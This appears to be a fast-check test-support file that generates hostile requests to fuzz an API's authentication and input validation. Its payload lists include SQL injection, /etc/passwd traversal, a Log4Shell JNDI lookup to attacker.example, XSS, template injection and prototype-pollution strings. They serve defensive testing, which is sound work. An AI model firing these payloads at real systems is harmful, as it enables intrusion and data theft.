import fc from 'fast-check';
import { checksumOf } from '../../src/tokens/token-format';
import { ApiRoute, QueryParam, Schema } from './route-catalog';

// Generators of hostile request parts: credentials, query strings, path ids and JSON bodies.
// Bodies are raw JSON text, so that they can hold what JSON.stringify cannot produce: duplicate
// or __proto__ keys, 1e400, unbalanced nesting.

const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'.split('');
const UUID_RE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

const SPECIAL_STRINGS = [
  "' OR '1'='1",
  '1; DROP TABLE users; --',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}<%= 7*7 %>',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e400',
  '0x7fffffff',
  '__proto__',
  'constructor',
  'admin',
  '*',
  '\\',
  '"',
  '\u0000',
  'a\u0000b',
  '\u202etxt.exe',
  '\u200b',
  '\ufeff',
  '𝕏𝕏𝕏',
  'e\u0301',
  'ß',
  '😀',
  ' ',
];

/** Strings an attacker would try: random ASCII, random Unicode, classics, and long ones. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 40 }), weight: 4 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 20 }), weight: 2 },
  { arbitrary: fc.constantFrom(...SPECIAL_STRINGS), weight: 3 },
  { arbitrary: fc.integer({ min: 200, max: 1500 }).map((n) => 'A'.repeat(n)), weight: 1 },
);

/** Node refuses to send header values outside tab, 0x20-0x7e and 0x80-0xff. */
function headerSafe(value: string): string {
  return value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?');
}

/** Header text; Unicode goes out as raw UTF-8 bytes, as a real client would send it. */
export const headerText: fc.Arbitrary<string> = fc.oneof(
  hostileText.map(headerSafe),
  hostileText.map((s) => headerSafe(Buffer.from(s, 'utf8').toString('latin1'))),
);

const base64 = (value: string): string => Buffer.from(value, 'utf8').toString('base64');
const base62 = (min: number, max: number): fc.Arbitrary<string> =>
  fc.string({ unit: fc.constantFrom(...BASE62), minLength: min, maxLength: max });

/** Strings shaped like API tokens: well-formed but unknown, bad checksum, wrong length. */
export function tokenLike(prefix: string): fc.Arbitrary<string> {
  return fc.oneof(
    base62(26, 26).map((body) => prefix + body + checksumOf(prefix + body)),
    base62(32, 32).map((body) => prefix + body),
    base62(0, 60).map((body) => prefix + body),
    base62(0, 40).map((body) => prefix.toUpperCase() + body),
  );
}

/** Where a credential travels (SPEC §4). */
export type Carrier = 'authorization' | 'x-api-key' | 'x-redmine-api-key' | 'query-key' | 'legacy';
export const CARRIERS: Carrier[] = [
  'authorization',
  'x-api-key',
  'x-redmine-api-key',
  'query-key',
  'legacy',
];

export interface HostileCredential {
  carrier: Carrier;
  /** Headers to send. */
  headers: Array<[string, string]>;
  /** The ?key= value, when the carrier is query-key. */
  queryKey?: string;
}

function hostileAuthorization(prefix: string): fc.Arbitrary<string> {
  // A user:password pair costs the server a memory-hard hash check (~0.1 s): kept rare.
  const basic = fc.oneof(
    {
      arbitrary: fc.tuple(hostileText, hostileText).map(([u, p]) => base64(`${u}:${p}`)),
      weight: 1,
    },
    { arbitrary: tokenLike(prefix).map((token) => base64(`anyuser:${token}`)), weight: 2 },
    { arbitrary: tokenLike(prefix).map((token) => base64(`${token}:x`)), weight: 1 },
    // Without a colon: unreadable, refused before any hash check.
    { arbitrary: hostileText.map((s) => base64(s.replace(/:/g, ''))), weight: 2 },
    { arbitrary: headerText, weight: 2 },
    {
      arbitrary: fc.constantFrom('', '=', '====', '!!!!', base64(':'), base64('admin:')),
      weight: 1,
    },
  );
  return fc.oneof(
    tokenLike(prefix).map((token) => `Bearer ${token}`),
    headerText.map((value) => `Bearer ${value}`),
    basic.map((value) => `Basic ${value}`),
    fc
      .tuple(
        fc.constantFrom('bearer', 'BEARER', 'basic', 'Digest', 'Token', 'Negotiate', 'ApiKey', ''),
        headerText,
      )
      .map(([scheme, value]) => `${scheme} ${value}`),
    headerText,
  );
}

/** One credential that names nobody, on the given carrier. */
export function hostileCredential(
  prefix: string,
  carrier: Carrier,
): fc.Arbitrary<HostileCredential> {
  const secret = fc.oneof(tokenLike(prefix), headerText);
  switch (carrier) {
    case 'authorization':
      return hostileAuthorization(prefix).map((value) => ({
        carrier,
        headers: [['Authorization', value]],
      }));
    case 'x-api-key':
      return secret.map((value) => ({ carrier, headers: [['X-API-Key', value]] }));
    case 'x-redmine-api-key':
      return secret.map((value) => ({ carrier, headers: [['X-Redmine-API-Key', value]] }));
    case 'query-key':
      return fc
        .oneof(tokenLike(prefix), hostileText)
        .map((value) => ({ carrier, headers: [], queryKey: value }));
    case 'legacy':
      // Mostly one header of the two (incomplete); a full pair costs a password hash check.
      return fc
        .oneof(
          { arbitrary: headerText.map((user) => [['X-AUTH-USER', user]]), weight: 2 },
          { arbitrary: headerText.map((token) => [['X-AUTH-TOKEN', token]]), weight: 2 },
          {
            arbitrary: fc.tuple(headerText, headerText).map(([user, token]) => [
              ['X-AUTH-USER', user],
              ['X-AUTH-TOKEN', token],
            ]),
            weight: 1,
          },
        )
        .map((headers) => ({ carrier, headers: headers as Array<[string, string]> }));
  }
}

/** A non-empty set of hostile credentials on distinct carriers (none of `exclude`). */
export function hostileCredentials(
  prefix: string,
  exclude: Carrier[] = [],
): fc.Arbitrary<HostileCredential[]> {
  const carriers = CARRIERS.filter((c) => !exclude.includes(c));
  return fc
    .shuffledSubarray(carriers, { minLength: 1, maxLength: 3 })
    .chain((chosen) => fc.tuple(...chosen.map((c) => hostileCredential(prefix, c))));
}

/** Headers that are not credentials but that the server reads or might: all garbage. */
export const hostileNoiseHeaders: fc.Arbitrary<Array<[string, string]>> = fc
  .subarray([
    'Cookie',
    'X-Forwarded-For',
    'X-Real-IP',
    'User-Agent',
    'Accept',
    'Accept-Language',
    'X-Request-Id',
    'Origin',
    'Referer',
    'Forwarded',
  ])
  .chain((names) =>
    fc.tuple(...names.map((name) => headerText.map((value): [string, string] => [name, value]))),
  );

// ---------------------------------------------------------------------------------------------
// Query strings. Pairs are sent as written: names and values are already percent-encoded, so
// that malformed escapes (%zz) and raw brackets reach the server too.

export type QueryPair = [string, string];

const encode = (value: string): string => encodeURIComponent(value);

/** What the server's parser makes of an encoded query component (malformed escapes stay). */
export function decodeComponent(value: string): string {
  try {
    return decodeURIComponent(value.replace(/\+/g, ' '));
  } catch {
    return value;
  }
}

const RAW_QUERY_VALUES = [
  '',
  '%',
  '%zz',
  '%E0%A4%A',
  '%00',
  '+',
  '%2B1',
  '-1',
  '-0',
  '0',
  '1.5',
  '1e400',
  '1e3',
  '0x10',
  'NaN',
  'Infinity',
  '99999999999999999999999',
  '9007199254740993',
  'true',
  '[]',
  '{}',
  '%27%20OR%201%3D1--',
];

export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...RAW_QUERY_VALUES),
  hostileText.map(encode),
  fc.integer().map(String),
  fc.uuid(),
);

const GENERIC_QUERY_NAMES = [
  'offset',
  'limit',
  'state',
  'status',
  'all',
  'action',
  'q',
  'sort',
  'page',
  'per_page',
  'access_token',
  'filter[name]',
  'offset[]',
  'limit[$gt]',
  '__proto__',
  '__proto__[admin]',
  'constructor[prototype][admin]',
  'toString',
  '',
];

/** Any query pairs (never a ?key=: that is a credential, generated on purpose elsewhere). */
export function hostileQueryNoise(route: ApiRoute): fc.Arbitrary<QueryPair[]> {
  const name = fc
    .oneof(
      fc.constantFrom(...GENERIC_QUERY_NAMES, ...route.query.map((p) => p.name)),
      hostileText.map(encode),
    )
    .filter((n) => decodeComponent(n) !== 'key');
  return fc.array(fc.tuple(name, hostileQueryValue), { maxLength: 6 });
}

/** Query pairs that certainly fail validation for this declared parameter. */
export function invalidQueryParam(param: QueryParam): fc.Arbitrary<QueryPair[]> {
  const s = param.schema;
  const repeated = fc
    .array(hostileQueryValue, { minLength: 2, maxLength: 3 })
    .map((values) => values.map((v): QueryPair => [param.name, v]));
  const single = (values: fc.Arbitrary<string>): fc.Arbitrary<QueryPair[]> =>
    values.map((v) => [[param.name, v]]);
  const options: Array<fc.Arbitrary<QueryPair[]>> = [repeated];
  if (s.type === 'number' || s.type === 'integer') {
    const numericValid = (v: string): boolean => {
      const n = Number(decodeComponent(v));
      return (
        Number.isFinite(n) &&
        (s.minimum === undefined || n >= s.minimum) &&
        (s.maximum === undefined || n <= s.maximum)
      );
    };
    options.push(single(hostileQueryValue.filter((v) => !numericValid(v))));
    if (s.minimum !== undefined) {
      const min = s.minimum;
      options.push(single(fc.integer({ min: -1_000_000, max: min - 1 }).map(String)));
    }
    if (s.maximum !== undefined) {
      const max = s.maximum;
      options.push(single(fc.integer({ min: max + 1, max: max + 1_000_000 }).map(String)));
    }
  } else if (s.enum) {
    const allowed = s.enum.map(String);
    options.push(single(hostileQueryValue.filter((v) => !allowed.includes(decodeComponent(v)))));
  } else if (s.format === 'uuid') {
    options.push(single(hostileQueryValue.filter((v) => !UUID_RE.test(decodeComponent(v)))));
  }
  return fc.oneof(...options);
}

export function queryString(pairs: QueryPair[]): string {
  return pairs.length === 0 ? '' : `?${pairs.map(([n, v]) => `${n}=${v}`).join('&')}`;
}

// ---------------------------------------------------------------------------------------------
// Path ids

/** Path ids that name nothing: random UUIDs, garbage, encoded slashes, over-long values. */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  fc.uuid(),
  fc.uuid().map((u) => u.toUpperCase()),
  hostileText.map(encode).filter((v) => v.length > 0),
  fc.constantFrom('..', '.', '%2e%2e', 'a%2Fb', '%2F', 'null', '0', '-1', '%00', '%zz', '%20'),
  fc.integer({ min: 201, max: 400 }).map((n) => 'a'.repeat(n)),
);

// ---------------------------------------------------------------------------------------------
// JSON bodies

export interface HostileBody {
  contentType: string;
  text: string;
  /**
   * The text is a JSON object that parses and fails validation: a 400 must then list the
   * fields (`details`).
   */
  semantic: boolean;
}

const nest = (depth: number, open: string, close: string, inner = ''): string =>
  open.repeat(depth) + inner + close.repeat(depth);

/** Raw JSON values of any shape: odd numbers, deep nesting, huge strings and arrays. */
export const hostileJsonValue: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)), weight: 4 },
  {
    arbitrary: fc.constantFrom(
      'null',
      'true',
      'false',
      '0',
      '-0',
      '1e400',
      '-1e400',
      '1e-400',
      '9007199254740993',
      '123456789012345678901234567890',
      '[]',
      '{}',
      '""',
      '"\\u0000"',
      '"\\ud800"',
      '"\\ufeff"',
      '{"$gt":""}',
      '{"$ne":null}',
      '[null]',
    ),
    weight: 3,
  },
  { arbitrary: hostileText.map((s) => JSON.stringify(s)), weight: 3 },
  {
    arbitrary: fc
      .tuple(
        fc.oneof(fc.integer({ min: 2, max: 64 }), fc.constantFrom(500, 1000, 5000, 20000)),
        fc.boolean(),
      )
      .map(([depth, arrays]) => (arrays ? nest(depth, '[', ']') : nest(depth, '{"a":', '}', '1'))),
    weight: 1,
  },
  {
    arbitrary: fc.integer({ min: 10_000, max: 200_000 }).map((n) => JSON.stringify('x'.repeat(n))),
    weight: 1,
  },
  {
    arbitrary: fc
      .integer({ min: 1000, max: 50_000 })
      .map((n) => `[${Array(n).fill('1').join(',')}]`),
    weight: 1,
  },
);

/** Raw JSON values that no validator of this schema can accept. */
export function invalidJsonValue(schema: Schema): fc.Arbitrary<string> | undefined {
  const notString = fc.constantFrom(
    '0',
    '1',
    '-1',
    '1.5',
    'true',
    'false',
    '{}',
    '[]',
    '["x"]',
    '{"$gt":""}',
  );
  switch (schema.type ?? '') {
    case 'string': {
      const options: Array<fc.Arbitrary<string>> = [notString];
      if (schema.enum) {
        const allowed = schema.enum.map(String);
        options.push(hostileText.filter((s) => !allowed.includes(s)).map((s) => JSON.stringify(s)));
      }
      if (schema.format === 'uuid') {
        options.push(hostileText.filter((s) => !UUID_RE.test(s)).map((s) => JSON.stringify(s)));
      }
      if (schema.maxLength !== undefined) {
        const max = schema.maxLength;
        options.push(
          fc.integer({ min: max + 1, max: max + 50 }).map((n) => JSON.stringify('x'.repeat(n))),
        );
      }
      if (schema.minLength !== undefined && schema.minLength > 0) {
        const min = schema.minLength;
        options.push(
          fc.integer({ min: 0, max: min - 1 }).map((n) => JSON.stringify('x'.repeat(n))),
        );
      }
      return fc.oneof(...options);
    }
    case 'number':
    case 'integer': {
      const options: Array<fc.Arbitrary<string>> = [
        fc.constantFrom('"5"', '"abc"', 'true', '{}', '[]', '[5]', '1e400', '-1e400'),
      ];
      if (schema.minimum !== undefined) {
        const min = schema.minimum;
        options.push(fc.integer({ min: -1_000_000, max: min - 1 }).map(String));
      }
      if (schema.maximum !== undefined) {
        const max = schema.maximum;
        options.push(fc.integer({ min: max + 1, max: max + 1_000_000 }).map(String));
      }
      return fc.oneof(...options);
    }
    case 'boolean':
      return fc.constantFrom('"true"', '"false"', '0', '1', '"yes"', '{}', '[]', '[true]');
    case 'array': {
      const options: Array<fc.Arbitrary<string>> = [fc.constantFrom('"read"', '{}', '5', 'true')];
      const item = schema.items ? invalidJsonValue(schema.items) : undefined;
      if (item) {
        options.push(item.map((v) => `[${v}]`));
      }
      return fc.oneof(...options);
    }
    default:
      return undefined;
  }
}

/** Keys no DTO declares. Inherited names (toString, constructor, ...) are dropped silently. */
export function unknownKey(known: string[]): fc.Arbitrary<string> {
  return fc
    .oneof(
      fc.constantFrom(
        'is_admin',
        'isAdmin',
        'role',
        'workspace_id',
        'user_id',
        'id',
        'token',
        'token_hash',
        'plan',
        'scopes',
        'password_hash',
        'created_at',
        '$where',
        'NAME',
        'name ',
        '',
      ),
      hostileText,
    )
    .filter((k) => !known.includes(k) && !(k in Object.prototype) && k !== 'prototype');
}

type Entry = [key: string, rawValue: string];

const objectText = (entries: Entry[]): string =>
  `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`;

const JSON_TYPES = ['application/json', 'application/json; charset=utf-8'];
const OTHER_TYPES = [
  'APPLICATION/JSON',
  'application/json; charset=latin1',
  'text/plain',
  'application/x-www-form-urlencoded',
  'application/xml',
  'multipart/form-data; boundary=xyz',
  'application/octet-stream',
  'application/vnd.api+json',
  ';;',
];
const contentType = fc.oneof(
  { arbitrary: fc.constantFrom(...JSON_TYPES), weight: 6 },
  { arbitrary: fc.constantFrom(...OTHER_TYPES), weight: 1 },
);

/**
 * Bodies that this route must refuse whatever else the request gets right: at least one field
 * of a wrong type or out of range, an undeclared field, malformed JSON, a __proto__ key, or no
 * object at all. `valid` gives a valid value for a declared field, to mix in with the poison.
 */
export function poisonedBody(
  route: ApiRoute,
  valid: (name: string, schema: Schema) => unknown,
): fc.Arbitrary<HostileBody> {
  const props = Object.entries(route.body?.properties ?? {});
  const known = props.map(([name]) => name);
  const noise: fc.Arbitrary<Entry[]> = fc
    .subarray(props)
    .chain((chosen) =>
      fc.tuple(
        ...chosen.map(([name, schema]) =>
          fc
            .oneof(fc.constant(JSON.stringify(valid(name, schema))), hostileJsonValue)
            .map((v): Entry => [name, v]),
        ),
      ),
    );
  const poisons: Array<fc.Arbitrary<Entry>> = [
    fc.tuple(unknownKey(known), hostileJsonValue).map(([k, v]): Entry => [k, v]),
  ];
  for (const [name, schema] of props) {
    const bad = invalidJsonValue(schema);
    if (bad) {
      poisons.push(bad.map((v): Entry => [name, v]));
    }
  }
  const semantic = fc
    .tuple(noise, fc.array(fc.oneof(...poisons), { minLength: 1, maxLength: 3 }), contentType)
    .map(([base, poison, type]): HostileBody => {
      // A key sent twice keeps its last value, so the poison goes last and drops its twins.
      const poisoned = new Set(poison.map(([k]) => k));
      const entries = [...base.filter(([k]) => !poisoned.has(k)), ...poison];
      return { contentType: type, text: objectText(entries), semantic: JSON_TYPES.includes(type) };
    });
  const structural = fc
    .tuple(
      noise,
      fc.oneof(
        // Not JSON at all
        fc.constantFrom(
          '{',
          '{"a":',
          '{"a":1,}',
          "{'a':1}",
          '{a:1}',
          '{"a":NaN}',
          '{"a":1} trailing',
          '{"a":1}{"b":2}',
          '/* comment */{}',
          '\u0000',
        ),
        // Prototype pollution, which the JSON parser refuses
        hostileJsonValue.map((v) => `{"__proto__":${v}}`),
        hostileJsonValue.map((v) => `{"a":{"__proto__":${v}}}`),
        fc.constant('{"constructor":{"prototype":{"is_admin":true}}}'),
        // JSON, but no object
        fc.constantFrom('[]', '[{}]', '5', '"str"', 'true'),
      ),
      contentType,
    )
    .map(([base, text, type]): HostileBody => {
      // Splice the structural poison after the noise, so that both reach the parser.
      const body =
        base.length > 0 && text.startsWith('{"')
          ? `${objectText(base).slice(0, -1)},${text.slice(1)}`
          : text;
      return { contentType: type, text: body, semantic: false };
    });
  return fc.oneof({ arbitrary: semantic, weight: 3 }, { arbitrary: structural, weight: 1 });
}

/** Strings to put into a free-text field of an otherwise valid body. */
export function oddString(maxLength: number | undefined): fc.Arbitrary<string> {
  const around = maxLength ?? 255;
  return fc.oneof(
    fc.constantFrom(...SPECIAL_STRINGS),
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc
      .tuple(
        fc.constantFrom(
          'x',
          '😀',
          'a\uFE0F',
          'e\u0301',
          '\u0000',
          'ß',
          '\u202e',
          '𝕏',
          ' ',
          '\ud800',
        ),
        fc.integer({ min: Math.max(0, around - 2), max: around + 2 }),
      )
      .map(([unit, n]) => unit.repeat(n)),
    fc.integer({ min: 1000, max: 300_000 }).map((n) => 'x'.repeat(n)),
  );
}
